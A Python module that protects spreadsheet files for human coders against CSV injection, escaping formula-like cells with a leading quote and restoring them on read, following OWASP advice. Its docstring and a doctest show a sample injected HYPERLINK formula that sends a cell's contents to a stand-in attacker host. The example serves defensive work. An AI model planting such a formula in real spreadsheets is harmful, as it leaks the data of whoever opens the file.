"""Spreadsheet-safe cells for the files coders open in Excel or LibreOffice (CSV injection).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as
a formula by spreadsheet programs, so a corpus title such as
``=HYPERLINK("http://evil.example/?x="&C2,"mehr")`` would act in a coder's sheet. Following
OWASP's advice on CSV injection, such a cell gets a leading ``'`` in CSV files for coders
(:func:`write_coders_csv`), which :func:`restore_cell` removes when the file is read back, so a
round trip gives the original text. In XLSX every text is written as a string cell
(:func:`text_cells`; dangerous ones also with Excel's quote prefix), so no cell is a formula
and the value stays unchanged. Texts that already start with ``'`` before one of those
characters get one more ``'``, so restoring is lossless for every text.

Only files for coders are escaped: the coding sheet (CSV, XLSX) and the intrusion items.
Tables under ``tables/`` and the coding sheet's key are data exports for the researcher
and keep the text exactly as in the Parquet tables.

>>> safe_cell('=HYPERLINK("http://evil.example")')
'\\'=HYPERLINK("http://evil.example")'
>>> [restore_cell(safe_cell(t)) for t in ["-1", "'=x", "Grüße aus Kyjiw"]], safe_cell(3)
(['-1', "'=x", 'Grüße aus Kyjiw'], 3)
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _escaped(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def safe_cell(value):
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    return "'" + value if isinstance(value, str) and _escaped(value) else value


def restore_cell(value):
    """The original text of a cell written by :func:`safe_cell` (other values unchanged)."""
    return value[1:] if isinstance(value, str) and value.startswith("'") and _escaped(value) else value


def write_coders_csv(frame: pd.DataFrame, path, **to_csv) -> Path:
    """Write ``frame`` (without its index) as a CSV for coders, every cell through :func:`safe_cell`
    and every text quoted (a bare carriage return would otherwise split the row)."""
    path = Path(path)
    frame.map(safe_cell).to_csv(path, index=False, quoting=csv.QUOTE_NONNUMERIC, **to_csv)
    return path


def read_coders_csv(path, **read_csv) -> pd.DataFrame:
    """A CSV written by :func:`write_coders_csv` (and filled by coders), cells restored."""
    return pd.read_csv(path, **read_csv).map(restore_cell)


def text_cells(worksheet) -> None:
    """Make every text cell of an openpyxl ``worksheet`` a string cell: openpyxl stores text
    starting with ``=`` as a formula. Text a spreadsheet would run also gets the quote prefix,
    so it stays text when a coder edits the cell."""
    for row in worksheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if cell.value.startswith(FORMULA_STARTS):
                    cell.quotePrefix = True
